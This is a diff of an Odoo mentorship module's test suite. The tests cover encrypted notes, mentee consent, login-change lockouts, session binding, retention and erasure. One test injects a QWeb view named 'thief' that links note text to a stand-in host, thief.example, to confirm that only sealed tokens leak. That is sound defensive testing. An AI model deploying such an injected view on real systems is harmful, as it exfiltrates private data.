@@ -3,409 +3,624 @@ from unittest.mock import patch
 
 from dateutil.relativedelta import relativedelta
 
-from odoo import fields
+from odoo import Command, fields
 from odoo.exceptions import AccessError, UserError
-from odoo.tests import tagged
+from odoo.http import root
+from odoo.tests import HttpCase, tagged
+from odoo.tools import mute_logger
 
-from ..room import grants, items, keys, logins
-from ..tools.seal import SealError
+from ..room import door, grants, items, keys, logins
 from .common import MentorshipCase
+
+SECRET = "a secret of the room"
 
 
 class RoomCase(MentorshipCase):
-    """An active pairing, whose two members write in their room."""
+    """A pair whose room is written in as the portal does it."""
 
     @classmethod
     def setUpClass(cls):
         super().setUpClass()
         cls.pairing = cls._active_pair()
+        cls.pair = cls.mentor | cls.mentee
 
-    @property
-    def keys(self):
-        return keys.Keys(self.env)
+    def setUp(self):
+        super().setUp()
+        self.keys = keys.Keys(self.env)
 
-    @classmethod
-    def _write(cls, item, text="Between us", readers=None):
-        """Seal a text for everybody in the room, or for some; return the item."""
-        everybody = item.pairing_id._room_members().partner_id
-        # keys of the moment: those of a test before are rolled back
-        ring = keys.Keys(cls.env)
-        items.write(ring, item, {"text": text}, readers or everybody)
-        return item
+    def _note(self, author, text=SECRET, audience="room", files=()):
+        note, readers = self.pairing._new_note(author, "note", audience)
+        items.write(self.keys, note, {"text": text}, readers)
+        for name in files:
+            items.write(self.keys, note._new_file(), {"name": name}, readers)
+        self.pairing._note_activity(author, readers)
+        return note
 
-    @classmethod
-    def _note(cls, author=None, text="Between us", audience="room"):
-        author = author or cls.mentee
-        note, readers = cls.pairing._new_note(author, "note", audience)
-        return cls._write(note, text, readers)
+    def _goal(self, author, text=SECRET):
+        values = {"term": "short", "due_on": False}
+        goal = self.pairing._save_goal(self.pairing.goal_ids, author, values)
+        items.write(self.keys, goal, {"specific": text}, self.pair)
+        return goal
 
-    @classmethod
-    def _goal(cls, author=None):
-        none = cls.env["mentorship.goal"]
-        return cls._write(cls.pairing._save_goal(none, author or cls.mentee, {}))
+    def _plan(self, author, text=SECRET):
+        plan = self.pairing._save_plan(self.pairing._own_plan(author), author)
+        items.write(self.keys, plan, {"now": text}, self.pair)
+        return plan
 
-    def _read(self, reader, item):
-        """Return what a partner reads of an item now: text, UNREADABLE or nothing."""
-        self.env.flush_all()
-        self.env.invalidate_all()
-        found = items.read(keys.Keys(self.env), reader, item)
-        return (
-            found[item] and found[item]["text"].text() if item in found else "nothing"
-        )
+    def _agreement(self, author, text=SECRET):
+        agreement = self.pairing._new_agreement(author)
+        items.write(self.keys, agreement, {"privacy": text}, self.pair)
+        agreement._ask()
+        return agreement
+
+    def _consent(self, record, asker=None, recipient=None):
+        recipient = recipient or self.coordinator.partner_id
+        consent = self.pairing._new_consent(record, asker or self.mentor, recipient)
+        items.write(self.keys, consent, {"purpose": SECRET}, self.pair | recipient)
+        return consent
+
+    def _by(self, user, records):
+        """Return records as a page acts on them: the member's, with server rights."""
+        return records.with_user(user).sudo()
+
+    def _reads(self, reader, records):
+        """Return {record: text} of what a partner reads, opened."""
+        found = items.read(keys.Keys(self.env), reader, records)
+        return {
+            item: texts and {name: text.text() for name, text in texts.items()}
+            for item, texts in found.items()
+        }
 
 
 @tagged("post_install", "-at_install")
 class TestRoom(RoomCase):
-    """What everybody may know of a room, and how it ends."""
+    """What a room is outside: counts, states, dates."""
 
-    def test_staff_see_counts_states_and_dates(self):
-        self.assertEqual(self.pairing.stage, "grounding")
-        self._note()
-        self._note(audience="self")
-        message, readers = self.pairing._new_message(self.mentee)
-        self._write(message, readers=readers)
-        goal = self._goal()
-        self.assertEqual(self.pairing.stage, "preparation")
-        self._write(self.pairing._save_plan(self.env["mentorship.plan"], self.mentee))
-        goal._note_progress(100)
+    def test_counts_are_of_what_the_pair_wrote(self):
+        for author in (self.mentor, self.mentee):
+            self._note(author)
+        self._note(self.mentee, audience="self")
+        self._note(self.mentee, audience=str(self.mentor.id))
+        message, coordinators = self.pairing._new_message(self.mentee)
+        items.write(self.keys, message, {"text": SECRET}, coordinators)
+        reached, dropped, _open = (self._new_goal() for _three in range(3))
+        reached._note_progress(100)
+        dropped._drop()
+        self._plan(self.mentee)
         pairing = self.pairing.with_user(self.coordinator)
-        self.assertEqual(
-            (pairing.note_count, pairing.goal_count, pairing.goal_done_count),
-            (2, 1, 1),
-        )
-        self.assertEqual((pairing.plan_count, pairing.agreement_state), (1, "none"))
-        with self.assertRaises(AccessError):
-            pairing.note_ids.read(["sealed"])
+        self.assertEqual(pairing.note_count, 4)
+        self.assertEqual((pairing.goal_count, pairing.goal_done_count), (2, 1))
+        self.assertEqual(pairing.plan_count, 1)
+        self.assertEqual(pairing.room_active_on, self.today)
 
-    def test_the_stage_follows_what_the_pair_did(self):
-        self.pairing.with_user(self.mentee_user).action_first_contact()
+    def _new_goal(self):
+        values = {"term": "short", "due_on": False}
+        return self.pairing._save_goal(
+            self.pairing.goal_ids.browse(), self.mentee, values
+        )
+
+    def test_stages_follow_what_is_done(self):
+        self.assertEqual(self.pairing.stage, "grounding")
+        self._plan(self.mentee)
+        self.assertEqual(self.pairing.stage, "preparation")
+        self.pairing.member_ids.first_contact_on = self.today
         self.assertEqual(self.pairing.stage, "negotiating")
-        agreement = self._write(self.pairing._new_agreement(self.mentor))
-        agreement._ask()
-        self._goal()
+        agreement = self._agreement(self.mentor)
+        self._goal(self.mentee)
         self.assertEqual(self.pairing.stage, "negotiating")
         agreement._accept(self.mentee)
         self.assertEqual(self.pairing.stage, "supporting")
-        self.pairing.sudo().date_end = self.today + timedelta(days=10)
-        self.pairing.invalidate_recordset(["stage"])
+        self.pairing.date_end = self.today + timedelta(days=20)
         self.assertEqual(self.pairing.stage, "closure")
 
-    def test_a_pair_that_writes_is_not_silent(self):
-        self.pairing.date_start = self.today - timedelta(days=90)
-        self.assertEqual(self.pairing.silent_since, self.pairing.date_start)
-        self.pairing._note_activity(
-            self.mentee, self.pairing._room_members().partner_id
-        )
-        self.assertEqual(self.pairing.silent_since, self.today)
+    def test_a_pairing_is_silent_since_somebody_wrote_last(self):
+        later = self.today + timedelta(days=120)
+        with self._on(later):
+            self.pairing.invalidate_recordset(["silent_since"])
+            before = self.pairing.silent_since
+        with self._on(later - timedelta(days=10)):
+            self._note(self.mentee)
+        with self._on(later):
+            self.pairing.invalidate_recordset(["silent_since"])
+            self.assertEqual(self.pairing.silent_since, later - timedelta(days=10))
+        self.assertTrue(before and before < later - timedelta(days=10))
 
-    def test_news_is_told_once_until_somebody_looks_and_says_nothing(self):
-        self._note(text="Heimelijk")
-        everybody = self.pairing._room_members().partner_id
-        before = self._mails(self.mentor)
-        self.pairing._note_activity(self.mentee, everybody)
-        self.pairing._note_activity(self.mentee, everybody)
-        told = self._mails(self.mentor) - before
-        self.assertEqual(len(told), 1)
-        self.assertNotIn("Heimelijk", f"{told.subject}{told.body_html}")
-        self.assertFalse(self._mails(self.mentee) - self._mails() - before)
+    def test_each_reads_what_was_written_for_them(self):
+        notes = (
+            self._note(self.mentee)
+            | self._note(self.mentee, audience="self")
+            | self._note(self.mentor, audience=str(self.mentee.id))
+        )
+        self.assertEqual(len(self._reads(self.mentee, notes)), 3)
+        self.assertEqual(set(self._reads(self.mentor, notes)), {notes[0], notes[2]})
+        for partner in (self.member, self.coordinator.partner_id):
+            self.assertFalse(self._reads(partner, notes))
+
+    def test_a_text_is_bound_to_its_record_pairing_author_readers_and_version(self):
+        note, other = self._note(self.mentee), self._note(self.mentee, "Another")
+        changes = (
+            {"author_id": self.mentor.id},
+            {"readers": f"[[{self.mentee.id}, 0], [{self.mentor.id}, 0]]"},
+            {"revision": note.revision + 1},
+            {"sealed": other.sealed},
+            {"sealed": "x"},
+            {"sealed": note.sealed[:-4]},
+        )
+        for change in changes:
+            with self.subTest(change), self.env.cr.savepoint():
+                before = {name: note[name] for name in change}
+                note.write(change)
+                self.assertEqual(self._reads(self.mentor, note), {note: None})
+                note.write({n: getattr(v, "id", v) for n, v in before.items()})
+        self.assertEqual(self._reads(self.mentor, note), {note: {"text": SECRET}})
+
+    def test_who_was_no_reader_is_none_by_a_change_of_the_database(self):
+        note = self._note(self.mentee, audience="self")
+        note.readers = f"[[{self.mentee.id}, 0], [{self.mentor.id}, 0]]"
+        self.assertEqual(self._reads(self.mentor, note), {note: None})
+
+    def test_who_left_has_no_room_and_the_other_still_has(self):
+        self._note(self.mentee)
+        member = self.pairing.member_ids.filtered(lambda m: m.role == "mentee")
+        self.assertTrue(self.pairing._has_room_for(self.mentee))
+        member.left_on = self.today
+        self.assertFalse(self.pairing._has_room_for(self.mentee))
+        self.assertTrue(self.pairing._has_room_for(self.mentor))
+        member.write({"left_on": False, "answer": "pending"})
+        self.assertFalse(self.pairing._has_room_for(self.mentee))
+        for partner in (self.member, self.manager.partner_id, self.env["res.partner"]):
+            self.assertFalse(self.pairing._has_room_for(partner))
+
+    def test_a_room_is_not_entered_but_by_the_dispatcher(self):
+        with self.assertRaises(Exception) as caught:
+            door.enter(self.pairing, self.mentee)
+        self.assertNotIsInstance(caught.exception, AssertionError)
+
+    def test_what_is_new_is_told_once_until_they_look(self):
+        before = len(self._mails(self.mentor))
+        self._note(self.mentee)
+        self._note(self.mentee)
+        self.assertEqual(len(self._mails(self.mentor)), before + 1)
+        mail = self._mails(self.mentor)[-1]
+        self.assertNotIn("secret", mail.body_html + mail.subject)
         self.pairing._seen_by(self.mentor)
-        self.pairing._note_activity(self.mentee, everybody)
-        self.assertEqual(len(self._mails(self.mentor) - before), 2)
-
-    def test_a_new_version_of_the_agreement_asks_everybody_again(self):
-        first = self._write(self.pairing._new_agreement(self.mentor))
-        first._ask()
-        self.assertEqual((first.state, first._missing()), ("asked", self.mentee))
-        first._accept(self.mentee)
-        self.assertEqual((first.state, first.agreed_on), ("agreed", self.today))
-        second = self._write(self.pairing._new_agreement(self.mentee))
-        second._ask()
-        self.assertEqual((first.state, second.state), ("agreed", "asked"))
-        self.assertEqual(self.pairing.agreement_state, "asked_again")
-        second._accept(self.mentor)
-        self.assertEqual((first.state, second.state), ("replaced", "agreed"))
-        with self.assertRaises(UserError):
-            first._accept(self.mentor)
-
-    def test_a_plan_is_the_mentees(self):
-        with self.assertRaises(UserError):
-            self.pairing._save_plan(self.env["mentorship.plan"], self.mentor)
-
-    def test_when_its_time_is_over_a_room_is_cleared_and_the_numbers_stay(self):
-        note, goal = self._note(), self._goal()
-        self.pairing.action_complete()
-        self.assertEqual(self.pairing.ended_on, self.today)
-        months = self.edition.retention_months
-        for day, text in (
-            (self.today + relativedelta(months=months, days=-1), "Between us"),
-            (self.today + relativedelta(months=months), "nothing"),
-        ):
-            with self._on(day):
-                self.env["mentorship.edition"]._cron_daily()
-            self.assertEqual(self._read(self.mentor, note), text)
-        self.assertFalse(note.sealed or goal.sealed)
-        wrapped = self.env["mentorship.room.key"].search(
-            [("pairing_id", "=", self.pairing.id)]
-        )
-        self.assertFalse(wrapped)
-        self.assertEqual((self.pairing.note_count, self.pairing.goal_count), (1, 1))
-        self.assertTrue(self.pairing.room_cleared_on)
-
-    def test_who_is_erased_takes_texts_keys_and_name_and_leaves_the_numbers(self):
-        theirs, others = self._note(), self._note(self.mentor, "From the mentor")
-        self._goal()
-        numbers = (self.pairing.note_count, self.pairing.goal_count)
-        with self.assertRaises(AccessError):
-            self.mentee.with_user(self.coordinator).action_mentorship_erase()
-        self.mentee.with_user(self.manager).action_mentorship_erase()
-        self.env.invalidate_all()
-        self.assertEqual((self.pairing.note_count, self.pairing.goal_count), numbers)
-        self.assertFalse(theirs.sealed)
-        self.assertFalse(
-            self.env["mentorship.room.key"].search(
-                [("author_id", "in", (self.mentee | theirs.author_id).ids)]
-            )
-        )
-        self.assertNotEqual(theirs.author_id, self.mentee)
-        self.assertEqual(self._read(self.mentor, others), "From the mentor")
-        self.assertFalse(self._names(self.mentee))
-        self.assertEqual(self.pairing.state, "ended")
-
-    def _names(self, partner):
-        """Return the records of ours that name a person."""
-        return [
-            record
-            for model, name, _field in partner._mentorship_references()
-            for record in model.search([(name, "in", partner.ids)])
-        ]
-
-    def test_a_contact_with_a_room_is_not_merged_away(self):
-        self._note()
-        twin = self.env["res.partner"].create(
-            {"name": self.mentee.name, "email": self.mentee.email}
-        )
-        wizard = self.env["base.partner.merge.automatic.wizard"]
-        with self.assertRaises(UserError):
-            wizard._merge((self.mentee | twin).ids, twin)
-        wizard._merge((self.mentee | twin).ids, self.mentee)
-        self.assertFalse(twin.exists())
-
-    def test_privacy_lookup_finds_every_record_that_names_a_person(self):
-        note = self._note()
-        self._write(note._new_file())
-        self._goal()
-        self._write(self.pairing._save_plan(self.env["mentorship.plan"], self.mentee))
-        self._write(self.pairing._new_agreement(self.mentee))
-        consent = self.pairing._new_consent(note, self.mentor, self.member)
-        self._write(consent)
-        self.env["mentorship.interest"]._note(self.programme, self.mentee)
-        self.env["mentorship.exclusion"].create(
-            {"partner_id": self.mentee.id, "other_partner_id": self.member.id}
-        )
-        self.env.flush_all()
-        lookup = self.env["privacy.lookup.wizard"].create(
-            {"name": self.mentee.name, "email": self.mentee.email}
-        )
-        lookup.action_lookup()
-        found = {(line.res_model, line.res_id) for line in lookup.line_ids}
-        named = {
-            (record._name, record.id)
-            for record in self._names(self.mentee)
-            # of a list of people, the pairing that holds it is found
-            if record._name not in ("mentorship.meeting", "mentorship.agreement")
-        }
-        self.assertLessEqual(named, found)
-        self.assertGreaterEqual(len({model for model, _id in named}), 8)
+        self._note(self.mentee)
+        self.assertEqual(len(self._mails(self.mentor)), before + 2)
+        told = len(self._mails(self.mentor))
+        self._note(self.mentee, audience="self")
+        self.assertEqual(len(self._mails(self.mentor)), told)
 
 
 @tagged("post_install", "-at_install")
-class TestReaders(RoomCase):
-    """What is bound into a text, and a mentee's yes."""
+class TestAgreement(RoomCase):
+    """Everybody says yes, and a new version asks everybody again."""
 
-    def test_only_its_readers_open_a_text(self):
-        note = self._note(audience="self")
-        self.assertEqual(self._read(self.mentee, note), "Between us")
-        self.assertEqual(self._read(self.mentor, note), "nothing")
-        self.assertEqual(self._read(self.member, note), "nothing")
+    def test_it_is_agreed_once_all_said_yes(self):
+        self.assertEqual(self.pairing.agreement_state, "none")
+        first = self._agreement(self.mentor)
+        self.assertEqual((first.version, first.state), (1, "asked"))
+        self.assertEqual(first.accepted_ids, self.mentor)
+        first._accept(self.mentor)
+        self.assertEqual(self.pairing.agreement_state, "asked")
+        first._accept(self.mentee)
+        self.assertEqual((first.state, first.agreed_on), ("agreed", self.today))
+        self.assertEqual(self.pairing.agreement_state, "agreed")
+        first._accept(self.mentee)
+        self.assertEqual(first.state, "agreed")
 
-    def test_a_reader_who_is_put_in_the_database_opens_nothing(self):
-        note = self._note(audience="self")
-        self.assertIn(str(self.mentee.id), note.readers)
-        note.readers = note.readers.replace(
-            f"[{self.mentee.id}, ", f"[{self.mentor.id}, "
-        )
-        self.assertIs(self._read(self.mentor, note), items.UNREADABLE)
+    def test_a_new_version_asks_both_again_and_the_old_one_holds_meanwhile(self):
+        first = self._agreement(self.mentor)
+        first._accept(self.mentee)
+        second = self._agreement(self.mentee)
+        self.assertEqual(second.accepted_ids, self.mentee)
+        self.assertEqual((first.state, second.state), ("agreed", "asked"))
+        self.assertEqual(self.pairing.agreement_state, "asked_again")
+        third = self._agreement(self.mentor)
+        self.assertEqual((second.state, third.version), ("replaced", 3))
+        with self.assertRaises(UserError):
+            second._accept(self.mentor)
+        third._accept(self.mentee)
+        self.assertEqual((first.state, third.state), ("replaced", "agreed"))
+        self.assertEqual(self.pairing.agreement_state, "agreed")
 
-    def test_a_text_that_is_moved_or_given_another_author_does_not_open(self):
-        note, other = self._note(), self._note(self.mentor)
-        kept = note.sealed
-        note.sealed = other.sealed
-        self.assertIs(self._read(self.mentee, note), items.UNREADABLE)
-        note.write({"sealed": kept, "author_id": self.mentor.id})
-        self.assertIs(self._read(self.mentee, note), items.UNREADABLE)
-        note.write({"author_id": self.mentee.id})
-        self.assertEqual(self._read(self.mentee, note), "Between us")
 
-    def test_a_key_of_another_author_does_not_unwrap(self):
-        note = self._note()
-        row = self.env["mentorship.room.key"].search(
-            [("author_id", "=", self.mentee.id)]
-        )
-        row.author_id = self.member
-        note.author_id = self.member
-        self.assertIs(self._read(self.mentee, note), items.UNREADABLE)
+@tagged("post_install", "-at_install")
+class TestConsent(RoomCase):
+    """Nothing is shared without the mentee's yes, which can be taken back."""
 
-    def test_when_the_signing_key_is_removed_no_new_one_takes_its_place(self):
-        self._note()
-        self.env["mentorship.room.key"].search([("pairing_id", "=", False)]).unlink()
-        with self.assertRaises(SealError):
-            keys.Keys(self.env)
+    def test_a_yes_a_no_and_a_revocation(self):
+        note = self._note(self.mentee)
+        consent = self._consent(note)
+        self.assertEqual((consent.state, consent.giver_id), ("asked", self.mentee))
+        mine = self._by(self.mentee_user, consent)
+        mine._grant()
+        mine._grant()
+        self.assertEqual(consent.state, "granted")
+        self.assertTrue(consent.answered_on)
+        mine._revoke()
+        mine._revoke()
+        self.assertEqual(consent.state, "revoked")
+        self.assertTrue(consent.revoked_on)
+        with self.assertRaises(UserError):
+            mine._grant()
+        other = self._by(self.mentee_user, self._consent(note))
+        other._refuse()
+        with self.assertRaises(UserError):
+            other._grant()
+        with self.assertRaises(UserError):
+            other._revoke()
 
-    def test_a_yes_is_the_mentees_and_opens_the_thing_as_it_was(self):
-        note = self._note()
-        consent = self._write(self.pairing._new_consent(note, self.mentor, self.member))
-        self.assertEqual(consent.giver_id, self.mentee)
-        with self.assertRaises(AccessError):
-            consent.with_user(self.mentor_user).sudo()._grant()
-        consent.with_user(self.mentee_user).sudo()._grant()
-        self.assertFalse(grants.stands(self.keys, consent), "nobody signed")
+    def test_nobody_else_answers(self):
+        consent = self._consent(self._note(self.mentee))
+        for user in (
+            self.mentor_user,
+            self.coordinator,
+            self.manager,
+            self.administrator,
+            self.member_user,
+        ):
+            for method in ("_grant", "_refuse", "_revoke"):
+                answer = getattr(self._by(user, consent), method)
+                with self.subTest(f"{user.name} {method}"):
+                    self.assertRaises(AccessError, answer)
+        self.assertEqual(consent.state, "asked")
+
+    def test_a_state_in_the_database_opens_nothing(self):
+        note = self._note(self.mentee)
+        consent = self._consent(note)
+        consent._set_state("granted", given="x")
+        self.assertFalse(grants.stands(self.keys, consent))
+        other = self._consent(self._note(self.mentee))
+        self._by(self.mentee_user, other)._grant()
+        grants.give(self.keys, other)
+        self.assertTrue(grants.stands(self.keys, other))
+        consent.given = other.given
+        self.assertFalse(grants.stands(self.keys, consent))
+
+    def test_a_yes_is_for_the_thing_as_it_was(self):
+        note = self._note(self.mentee, files=["file.txt"])
+        consent = self._consent(note)
+        self._by(self.mentee_user, consent)._grant()
         grants.give(self.keys, consent)
         self.assertTrue(grants.stands(self.keys, consent))
-        consent.recipient_id = self.employee.partner_id
-        self.assertFalse(grants.stands(self.keys, consent), "another recipient")
-        consent.recipient_id = self.member
-        self._write(note, "Changed since")
-        self.assertFalse(grants.stands(self.keys, consent), "another text")
-        consent.with_user(self.mentee_user).sudo()._revoke()
-        self.assertEqual((consent.state, consent.given), ("revoked", False))
+        for change in (
+            {"recipient_id": self.employee.partner_id.id},
+            {"giver_id": self.mentor.id},
+            {"item": f"mentorship.note,{self._note(self.mentee).id}"},
+        ):
+            with self.subTest(change):
+                before = {name: consent[name] for name in change}
+                consent.write(change)
+                self.assertFalse(grants.stands(self.keys, consent))
+                consent.write({n: getattr(v, "id", v) for n, v in before.items()})
+        self.assertTrue(grants.stands(self.keys, consent))
+        items.write(self.keys, note, {"text": "Something else"}, self.pair)
+        self.assertFalse(grants.stands(self.keys, consent))
 
-    def test_who_leaves_takes_back_every_yes(self):
-        consent = self._write(
-            self.pairing._new_consent(self._note(), self.mentee, self.member)
-        )
-        consent.with_user(self.mentee_user).sudo()._grant()
-        grants.give(self.keys, consent)
-        self.pairing.with_user(self.mentee_user).action_end()
-        self.assertEqual(consent.state, "revoked")
-
-    def test_nobody_but_the_pair_asks_for_a_consent(self):
-        note = self._note()
+    def test_the_mentee_decides_also_on_what_the_mentor_wrote(self):
+        self.assertEqual(self._consent(self._note(self.mentor)).giver_id, self.mentee)
+        note = self._note(self.mentee)
         with self.assertRaises(AccessError):
-            self.pairing._new_consent(note, self.employee.partner_id, self.member)
+            self.pairing._new_consent(note, self.member, self.coordinator.partner_id)
         with self.assertRaises(UserError):
-            self.pairing._new_consent(note, self.mentor, self.mentor)
+            self._consent(note, self.mentee, self.mentor)
+        self._consent(note)
+        with self.assertRaises(UserError):
+            self._consent(note)
+
+    def test_it_ends_when_the_note_goes_or_the_mentee_leaves(self):
+        note = self._note(self.mentee)
+        asked, granted = (self._consent(note, recipient=r) for r in self._recipients())
+        self._by(self.mentee_user, granted)._grant()
+        note._remove()
+        self.assertEqual((asked.state, granted.state), ("refused", "revoked"))
+        self.assertFalse(granted.given)
+        last = self._consent(self._note(self.mentee))
+        self._by(self.mentee_user, last)._grant()
+        grants.give(self.keys, last)
+        self.pairing.with_user(self.mentee_user).action_end()
+        self.assertEqual(last.state, "revoked")
+
+    def _recipients(self):
+        return self.coordinator.partner_id, self.employee.partner_id
+
+    def test_staff_see_that_it_is_and_not_what(self):
+        consent = self._consent(self._note(self.mentee)).with_user(self.coordinator)
+        self.assertEqual(consent.read(["state"])[0]["state"], "asked")
+        self.assertEqual(consent.recipient_id, self.coordinator.partner_id)
+        for name in ("purpose", "sealed", "readers", "given"):
+            with self.assertRaises(AccessError):
+                consent.read([name])
+            with self.assertRaises(AccessError):
+                consent.search([(name, "!=", False)])
 
 
 @tagged("post_install", "-at_install")
 class TestLogins(RoomCase):
-    """A login that changes without its owner's proof closes the room."""
+    """A login that changed is not trusted, but by a member or after a day."""
 
-    @classmethod
-    def setUpClass(cls):
-        super().setUpClass()
-        cls.note = cls._note()
+    def setUp(self):
+        super().setUp()
+        self.note = self._note(self.mentor)
+        self.assertTrue(self._standing().is_open)
 
-    def _stands(self, user=None):
-        user = (user or self.mentee_user).sudo()
-        return logins.standing(
-            self.keys,
-            self.pairing,
-            user,
-            lambda: items.were_for(self.pairing, user),
+    def _standing(self, after=timedelta()):
+        now = fields.Datetime.now() + after
+        known = lambda: items.were_for(self.pairing, self.mentee_user)  # noqa: E731
+        with patch.object(fields.Datetime, "now", return_value=now):
+            return logins.standing(
+                keys.Keys(self.env), self.pairing, self.mentee_user, known
+            )
+
+    @property
+    def row(self):
+        return self.env["mentorship.room.access"].search(
+            [
+                ("pairing_id", "=", self.pairing.id),
+                ("user_id", "=", self.mentee_user.id),
+            ]
         )
 
-    def _told(self):
-        return self._mails(self.mentor).filtered(
-            lambda mail: self.mentee.name in mail.subject and "login" in mail.subject
+    def test_it_opens_again_after_a_day_and_not_before(self):
+        self.mentee_user.password = "set-by-somebody-else"
+        self.assertFalse(self._standing().is_open)
+        self.assertFalse(self._standing(timedelta(hours=23, minutes=59)).is_open)
+        self.assertTrue(self._standing(timedelta(hours=24, minutes=1)).is_open)
+        self.assertTrue(self._standing().is_open)
+
+    def test_an_objection_keeps_it_closed_for_as_long_as_it_takes(self):
+        self.mentee_user.password = "set-by-somebody-else"
+        logins.object_to(keys.Keys(self.env), self.row)
+        standing = self._standing(timedelta(days=300))
+        self.assertFalse(standing.is_open)
+        self.assertTrue(standing.objected)
+        logins.confirm(keys.Keys(self.env), self.row)
+        self.assertTrue(self._standing().is_open)
+
+    def test_a_day_that_was_put_earlier_does_not_count(self):
+        self.mentee_user.password = "set-by-somebody-else"
+        self.row.closed_on -= timedelta(days=3)
+        self.assertFalse(self._standing().is_open)
+        self.row.write({"closed_on": False, "closed_seal": False})
+        self.assertFalse(self._standing().is_open)
+        self.row.unlink()
+        self.assertFalse(self._standing().is_open)
+
+    def test_a_second_change_begins_a_new_day(self):
+        self.mentee_user.password = "set-by-somebody-else"
+        self.assertFalse(self._standing().is_open)
+        later = timedelta(hours=23)
+        now = fields.Datetime.now() + later
+        with patch.object(fields.Datetime, "now", return_value=now):
+            self.mentee_user.password = "and-by-another"
+        self.assertFalse(self._standing(timedelta(hours=25)).is_open)
+        self.assertTrue(self._standing(timedelta(hours=48)).is_open)
+
+    def test_who_proves_the_old_password_stays_in(self):
+        mine = self.mentee_user.with_user(self.mentee_user)
+        mine.change_password(self.mentee_user.login, "my-own-new-one")
+        self.assertTrue(self._standing().is_open)
+        self.assertFalse(self.row.closed_on)
+
+
+@tagged("post_install", "-at_install")
+class TestSession(HttpCase, RoomCase):
+    """A room opens in a session of who logged in, and in no other."""
+
+    def test_a_session_without_a_login_opens_nothing(self):
+        self._note(self.mentor)
+        self.authenticate(self.mentee_user.login, self.mentee_user.login)
+        path = f"/my/mentorship/pairing/{self.pairing.id}"
+        page = self.url_open(path)
+        self.assertEqual(page.status_code, 200)
+        self.assertNotIn(SECRET, page.text)
+        forged = door._mark(self.keys, self.mentor_user.id, self.session.sid)
+        self._mark(forged)
+        self.assertNotIn(SECRET, self.url_open(path).text)
+        self._mark(door._mark(self.keys, self.mentee_user.id, "x" * 84))
+        self.assertNotIn(SECRET, self.url_open(path).text)
+        self._mark(door._mark(self.keys, self.mentee_user.id, self.session.sid))
+        self.assertIn(SECRET, self.url_open(path).text)
+
+    def _mark(self, mark):
+        self.session[door.MARK] = [self.mentee_user.id, mark]
+        root.session_store.save(self.session)
+
+    def test_an_edited_view_is_handed_no_text(self):
+        self._note(self.mentor)
+        self.authenticate(self.mentee_user.login, self.mentee_user.login)
+        self._mark(door._mark(self.keys, self.mentee_user.id, self.session.sid))
+        view = self.env.ref("nob_mentorship.portal_room")
+        self.env["ir.ui.view"].create(
+            {
+                "name": "thief",
+                "type": "qweb",
+                "mode": "extension",
+                "inherit_id": view.id,
+                "arch": """<xpath expr="." position="inside">
+                    <t t-set="text" t-value="notes[0]['texts']['text']"/>
+                    <a t-attf-href="https://thief.example/?{{text}}" t-out="text"/>
+                    <u t-out="len(text)"/>
+                </xpath>""",
+            }
+        )
+        page = self.url_open(f"/my/mentorship/pairing/{self.pairing.id}").text
+        self.assertIn("thief.example/?sealed-", page)
+        self.assertEqual(page.count(SECRET), 1)
+
+
+@tagged("post_install", "-at_install")
+class TestLeaving(RoomCase):
+    """Retention and erasure keep the numbers and take the person."""
+
+    def setUp(self):
+        super().setUp()
+        self._written = (
+            self._note(self.mentee, files=["file.txt"])
+            | self._note(self.mentee, audience="self")
+            | self._note(self.mentor)
+        )
+        self._goal(self.mentee)
+        self._plan(self.mentee)
+        self._agreement(self.mentee)._accept(self.mentor)
+        self._given = self._consent(self._written[0])
+        self._by(self.mentee_user, self._given)._grant()
+        grants.give(self.keys, self._given)
+
+    def _numbers(self):
+        self.env.flush_all()
+        names = ("note_count", "goal_count", "plan_count", "agreement_state", "stage")
+        return {name: self.pairing[name] for name in names}
+
+    def _sealed(self, *domain):
+        """Return the records of the room that still hold a text."""
+        found = {}
+        for name in self.env["mentorship.sealed"]._sealed_models():
+            records = self.env[name].search(
+                [("pairing_id", "=", self.pairing.id), *domain]
+            )
+            if kept := records.filtered(lambda record: record.sealed):
+                found[name] = kept
+            for record in records - kept if kept else records:
+                self.assertFalse(record.readers)
+                self.assertFalse("content" in record and record.content)
+        return found
+
+    def _room_keys(self, *domain):
+        return self.env["mentorship.room.key"].search(
+            [("pairing_id", "=", self.pairing.id), *domain]
         )
 
-    def test_a_login_that_stays_the_same_stays_in(self):
-        self.assertTrue(self._stands().is_open)
+    def test_retention_destroys_texts_and_keys_and_keeps_the_numbers(self):
+        self.pairing.action_complete()
+        before = self._numbers()
+        months = self.edition.retention_months
+        self.assertGreater(months, 0)
+        end = self.pairing.ended_on + relativedelta(months=months)
+        with self._on(end - timedelta(days=1)):
+            self.env["mentorship.pairing"]._cron_retention()
+        self.assertFalse(self.pairing.room_cleared_on)
+        self.assertEqual(len(self._room_keys()), 2)
+        self.assertTrue(self._sealed())
+        with self._on(end):
+            for _twice in range(2):
+                self.env["mentorship.pairing"]._cron_retention()
+        self.assertEqual(self.pairing.room_cleared_on, end)
+        self.assertFalse(self._sealed())
+        self.assertFalse(self._room_keys())
+        self.assertEqual(self._given.state, "revoked")
+        self.assertFalse(self._given.given)
+        self.assertEqual(self._numbers(), before)
+        self.assertFalse(self._reads(self.mentee, self._written))
 
-    def test_a_password_set_by_somebody_else_closes_the_room_and_tells(self):
-        before = len(self._told())
-        self.mentee_user.password = "another-password"
-        self.assertFalse(self._stands().is_open)
-        self.assertEqual(len(self._told()), before + 1)
-        self.assertTrue(self._stands(self.mentor_user).is_open)
-        self.assertEqual(
-            self._stands(self.mentor_user).others.user_id, self.mentee_user
-        )
+    def test_retention_leaves_what_runs_and_other_rooms(self):
+        with self._on(self.today + relativedelta(years=20)):
+            self.env["mentorship.pairing"]._cron_retention()
+        self.assertTrue(self._sealed())
+        self.assertEqual(len(self._room_keys()), 2)
 
-    def test_login_address_and_contact_close_it_too(self):
-        for change in (
-            lambda: self.mentee_user.write({"login": "somebody_else"}),
-            lambda: self.mentee.write({"email": "somebody@else.example"}),
-            lambda: self.mentee_user.write({"partner_id": self.member.copy().id}),
+    def test_only_a_manager_erases(self):
+        for user in (
+            self.coordinator,
+            self.administrator,
+            self.employee,
+            self.mentee_user,
+            self.mentor_user,
         ):
-            with self.subTest(change), self.env.cr.savepoint() as point:
-                change()
-                self.assertFalse(self._stands().is_open)
-                point.rollback()
-                self.env.invalidate_all()
+            with self.subTest(user.name), self.assertRaises(AccessError):
+                self.mentee.with_user(user).action_mentorship_erase()
+        self.assertTrue(self._sealed())
 
-    def test_a_password_changed_by_who_knows_the_old_one_keeps_it_open(self):
-        self.mentee_user.password = "first-password"
-        rows = self.env["mentorship.room.access"].search(
-            [("user_id", "=", self.mentee_user.id)]
-        )
-        logins.confirm(self.keys, rows)
